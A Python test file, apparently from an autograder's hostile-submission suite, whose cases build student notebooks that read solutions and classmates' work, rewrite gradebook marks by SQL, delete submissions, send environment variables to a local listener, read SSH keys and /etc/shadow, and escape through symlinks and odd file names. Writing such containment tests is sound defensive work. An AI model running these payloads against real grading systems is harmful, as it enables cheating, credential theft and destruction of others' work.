"""Files of others, the gradebook, the network. Paths are those of nbgrader's own way to grade."""

import os

from tests.hostile.cases import FLAGGED, GRADED, REJECTED, case
from tests.hostile.lesson import NAME

_BOOK = "../../../gradebook.db"
_ZOE = f"../../../submitted/zoe/{NAME}"
_SOURCE = f"../../../source/{NAME}/{NAME}.ipynb"


def _sql(statement, *values):
    return (
        "import sqlite3\n"
        "try:\n"
        f"    book = sqlite3.connect({_BOOK!r})\n"
        f"    book.execute({statement!r}, {values!r})\n"
        "    book.commit()\n"
        "except sqlite3.Error as error: print(error)"
    )


_OF_STUDENT = (
    "UPDATE grade SET manual_score = ?, needs_manual_grade = 0 WHERE notebook_id IN (SELECT n.id "
    "FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
    "WHERE a.student_id = ?)"
)


@case()
def f01_reads_secrets(s):
    """Prints the source with its solutions, the gradebook and a classmate's notebook."""
    s.own(
        f"for path in ({_SOURCE!r}, {_BOOK!r}, {_ZOE!r} + '/{NAME}.ipynb'):\n"
        "    try: print('BREACH:', open(path, 'rb').read())\n"
        "    except OSError: pass"
    )


@case()
def f02_own_marks(s):
    """Sets its own marks in the gradebook."""
    s.own(_sql(_OF_STUDENT, 3, s.student))


@case()
def f03_marks_of_another(s):
    """Sets a classmate's marks to 0."""
    s.own(_sql(_OF_STUDENT, 0, "alice"))


@case()
def f04_deletes_submission(s):
    """Deletes what a classmate handed in."""
    s.own(f"import shutil\nshutil.rmtree({_ZOE!r}, ignore_errors=True)")


@case()
def f05_edits_submission(s):
    """Overwrites a classmate's notebook."""
    s.own(
        f"try: open({_ZOE!r} + '/{NAME}.ipynb', 'w').write('nothing')\n"
        "except OSError as error: print(error)"
    )


@case()
def f06_deletes_gradebook(s):
    """Deletes the gradebook."""
    s.own(f"import os\ntry: os.remove({_BOOK!r})\nexcept OSError as error: print(error)")


@case()
def f07_empties_tests(s):
    """Empties the tests in the gradebook, for all who are graded later."""
    s.own(_sql("UPDATE source_cell SET source = 'pass' WHERE locked"))


@case()
def f08_network(s):
    """Sends what it can read to a listener, by TCP and by UDP."""
    s.own(
        "import os, socket\n"
        f"for host in ('127.0.0.1', 'localhost', '::1'):\n"
        f"    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
        "        try:\n"
        "            family = socket.AF_INET6 if ':' in host else socket.AF_INET\n"
        "            connection = socket.socket(family, kind)\n"
        "            connection.settimeout(2)\n"
        f"            connection.connect((host, {s.port}))\n"
        "            connection.send(b'stolen: ' + str(dict(os.environ)).encode()[:1000])\n"
        "        except OSError: pass"
    )


@case()
def f09_home(s):
    """Reads private keys, the environment and the memory of the grader."""
    s.own(
        "import glob, os\n"
        "paths = glob.glob(os.path.expanduser('~/.ssh/*')) + glob.glob('/home/*/.ssh/*')\n"
        "paths += [f'/proc/{os.getppid()}/environ', '/proc/1/environ', '/proc/self/environ']\n"
        "paths += ['/root/.ssh/id_rsa', '/etc/shadow']\n"
        "for path in paths:\n"
        "    try: print(path, open(path, 'rb').read())\n"
        "    except OSError: pass\n"
        "try:\n"
        "    os.close(os.open(f'/proc/{os.getppid()}/mem', os.O_RDWR))\n"
        "    if os.getppid() != 1: print('BREACH: the memory of', os.getppid())\n"
        "except OSError: pass"
    )


@case(points=10)
def f10_link_to_gradebook(s):
    """Right; links lead to the gradebook and to the source with its solutions."""
    s.right()
    os.symlink("../../../gradebook.db", s.folder / "data.txt")
    os.symlink(_SOURCE, s.folder / "example.txt")
    os.symlink("../../..", s.folder / "folder")


@case(may=(REJECTED, GRADED))
def f11_link_to_classmate(s):
    """The notebook is a link to a classmate's."""
    s.notebook = None
    s.path.symlink_to(f"../../zoe/{NAME}/{NAME}.ipynb")


@case()
def f12_writes_through_link(s):
    """Writes through a link that leads to the gradebook."""
    os.symlink("../../../gradebook.db", s.folder / "out")
    s.own("try: open('out', 'wb').write(b'nothing')\nexcept OSError as error: print(error)")


@case()
def f13_edits_graded(s):
    """Edits the graded notebook of a classmate, and what has been noted of it."""
    s.own(
        "import glob\n"
        "for path in [*glob.glob('../../alice/*/*'), *glob.glob('../../../.autograder/**/*.json',\n"
        "                                                       recursive=True)]:\n"
        "    try: open(path, 'w').write('nothing')\n"
        "    except OSError as error: print(error)"
    )


@case()
def f14_reads_own_notebook(s):
    """Opens the notebook in its own folder: while it is graded, the hidden tests are in it."""
    s.own(
        "import glob\n"
        "for path in glob.glob('**/*.ipynb', recursive=True): print(open(path).read())\n"
        "for path in glob.glob('/tmp/**/*.ipynb', recursive=True): print(open(path).read())"
    )


@case(points=10, may=(GRADED, REJECTED))
def f15_hard_links(s):
    """Right; a file beside the notebook is a second name of the gradebook itself."""
    s.right()
    course = s.folder.parents[2]
    os.link(course / "gradebook.db", s.folder / "marks.db")


@case(may=(GRADED, REJECTED, FLAGGED))
def f16_exchanged_while_read(s):
    """While it is graded, the notebook turns into a link to a classmate's, and back."""
    text = None

    def exchange():
        nonlocal text
        text = text or s.path.read_bytes()
        link, plain = s.folder / "link", s.folder / "plain"
        link.unlink(missing_ok=True)
        link.symlink_to(f"../../zoe/{NAME}/{NAME}.ipynb")
        os.replace(link, s.path)
        plain.write_bytes(text)
        os.replace(plain, s.path)

    s.meanwhile = exchange


@case(points=10)
def f17_odd_names(s):
    """Right; files whose names hold control characters, markup, dots and no text at all."""
    s.right()
    for name in (b"\x1b]0;hostile\x07.txt", b"<img src=x onerror=hostile()>.txt", b"\xff\xfe.txt"):
        descriptor = os.open(os.fsencode(s.folder) + b"/" + name, os.O_CREAT | os.O_WRONLY)
        os.close(descriptor)
    s.file("...", "three dots")
    s.file("-rf", "an option")
    s.file("a" * 250, "long")


@case(points=10)
def f18_many_files(s):
    """Right; a thousand files, and folders twenty deep."""
    s.right()
    for number in range(1000):
        s.file(f"many/{number}.txt", "x")
    s.file("/".join(["deep"] * 20) + "/file.txt", "x")


@case(points=10, may=(GRADED, REJECTED))
def f19_sparse_file(s):
    """Right; a file of 100 GB that takes no room."""
    s.right()
    with open(s.folder / "large.bin", "wb") as file:
        file.truncate(100 * 2**30)
